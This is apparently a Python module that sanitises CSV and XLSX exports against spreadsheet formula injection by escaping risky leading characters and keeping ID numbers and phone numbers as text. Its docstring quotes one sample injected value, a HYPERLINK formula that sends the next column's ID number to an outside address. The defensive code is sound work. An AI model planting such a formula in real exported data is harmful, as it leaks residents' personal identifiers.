"""The one way cells leave as a spreadsheet file (CSV or XLSX), safe to open in Excel or WPS.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a
formula to a spreadsheet: a resident named `=HYPERLINK("http://…"&G2,"详情")` would send the
next column (an ID number) to that address when clicked. Every exported cell that starts with
one of those characters gets a leading apostrophe, as OWASP recommends ("CSV Injection"); so
does a cell that starts with an apostrophe itself, so that `unescape_cell` gives back exactly
what was exported and an exported file imports again unchanged. No export holds numbers as
such (phones, ID numbers and dates are text), so nothing that was a number turns into text.

XLSX cells go through the same `safe_cell` (`xlsx_cell`): they are string cells anyway, but a
string that starts with `=` would be turned into a formula by openpyxl itself, and editing the
cell in Excel (F2, Enter) or saving the sheet as CSV would make one of it too.

Digits that must stay text (an 18-digit ID number becomes `5.20302E+17`, a phone or a house
number `0851...` loses its leading zero, `3-12` becomes a date) are written to CSV behind a
tab (`csv_text_cell`): Excel and WPS then keep the cell as text, all 18 digits exact, and our
import strips it. A tab is itself one of the formula starts above, but only the tab *we* add
stands there, before a value `safe_cell` has already made neutral (so what follows it never
starts a formula); a tab that was in the value gets the apostrophe instead. `="..."` would
also keep the digits, but it is a formula, which no export may contain. XLSX needs no marker:
the cell is a string cell.
"""

import csv
import io
from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
TEXT_MARKER = "\t"


def safe_cell(value: str) -> str:
    """`value`, with an apostrophe in front when a spreadsheet would read it as a formula."""
    return ESCAPE + value if value.startswith((*FORMULA_STARTS, ESCAPE)) else value


def csv_text_cell(value: str) -> str:
    """`safe_cell(value)`, behind a tab so Excel keeps it as text (unless it already is)."""
    cell = safe_cell(value)
    return cell if not cell or cell.startswith(ESCAPE) else TEXT_MARKER + cell


def xlsx_cell(value: str) -> str:
    """`safe_cell(value)` without the control characters an XLSX file cannot hold."""
    return safe_cell(ILLEGAL_CHARACTERS_RE.sub("", value))


def unescape_cell(value: str) -> str:
    """The inverse of `safe_cell`, for files that come back (imports)."""
    if value.startswith(ESCAPE) and value[1:].startswith((*FORMULA_STARTS, ESCAPE)):
        return value[1:]
    return value


class CsvSheet:
    """CSV text built row by row, every cell through `safe_cell`."""

    def __init__(self, header: Iterable[str]) -> None:
        self._out = io.StringIO()
        self._writer = csv.writer(self._out)
        self.add_rows([list(header)])

    def add_rows(self, rows: Iterable[Iterable[str]]) -> None:
        """CPU work for large pages: call it in a worker thread (resolvers/offload.py)."""
        self._writer.writerows([safe_cell(cell) for cell in row] for row in rows)

    def text(self) -> str:
        return self._out.getvalue()
